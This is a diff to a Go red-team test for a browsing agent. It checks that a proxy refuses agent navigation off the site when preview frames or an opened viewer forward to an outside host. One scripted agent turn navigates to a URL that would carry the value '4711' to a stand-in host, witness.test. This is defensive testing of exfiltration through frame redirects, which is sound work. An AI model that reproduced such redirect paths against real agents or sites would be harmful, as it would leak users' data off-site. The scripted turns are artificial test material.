@@ -78,17 +78,16 @@ func TestRedteamAgentFrameForwards(t *testing.T) {
 	}
 	for _, tt := range []struct {
 		name, script string
-		turns        int  // the model's requests once the script has run (a frame's forward)
 		tabStopped   bool // the forward was the tab's: the tab shows the proxy's page
 	}{
-		{"the preview frame sends the tab on, after the click's window", preview("/go-top"), 5, true},
-		{"the preview frame forwards itself, after the click's window", preview("/go"), 5, false},
-		{"the preview frame forwards itself at once", preview("/go-now"), 5, false},
+		{"the preview frame sends the tab on, after the click's window", preview("/go-top"), true},
+		{"the preview frame forwards itself, after the click's window", preview("/go"), false},
+		{"the preview frame forwards itself at once", preview("/go-now"), false},
 		{"the viewer the agent opened frames a page that forwards itself", `{"turns": [
 			{"tool_calls": [{"name": "navigate", "arguments": {"url": "/viewer?doc=%2Fgo%3Fto%3Dhttps%3A%2F%2Fwitness.test%2Ff%3Fd%3D4711"}}]},
 			{"tool_calls": [{"name": "wait_for", "arguments": {"text": "never on the page", "timeoutMs": 9000}}]},
 			{"text": "Opened."}
-		]}`, 3, false},
+		]}`, false},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			aw := newAgentWorld(t, tt.script, map[string]http.Handler{"mail.test": rtMail()})
@@ -99,14 +98,10 @@ func TestRedteamAgentFrameForwards(t *testing.T) {
 				if strings.Contains(res, "4711") {
 					t.Errorf("the model was shown: %s", res)
 				}
-			} else {
-				waitModelRequests(t, aw, tt.turns) // (a tab that went ends the turn: no request after)
 			}
+			waitRefusalLogged(t, aw)
 			time.Sleep(time.Second)
 			noWitness(t, aw)
-			if logs := aw.proxy.Logs(); !strings.Contains(logs, "refused an agent navigation off the site") {
-				t.Errorf("the proxy logged no refusal:\n%s", tail(logs, 3000))
-			}
 		})
 	}
 }
@@ -117,6 +112,16 @@ func waitModelRequests(t *testing.T, aw *agentWorld, n int) {
 	for deadline := time.Now().Add(60 * time.Second); len(aw.model.Requests()) < n; time.Sleep(200 * time.Millisecond) {
 		if time.Now().After(deadline) {
 			t.Fatalf("the model got %d requests, want %d\n%s", len(aw.model.Requests()), n, aw.diagnose())
+		}
+	}
+}
+
+// waitRefusalLogged waits until the proxy has refused a navigation off the site.
+func waitRefusalLogged(t *testing.T, aw *agentWorld) {
+	t.Helper()
+	for deadline := time.Now().Add(30 * time.Second); !strings.Contains(aw.proxy.Logs(), "refused an agent navigation off the site"); time.Sleep(200 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("the proxy refused nothing; the witness got %q\n%s", aw.witness.requests(), aw.diagnose())
 		}
 	}
 }
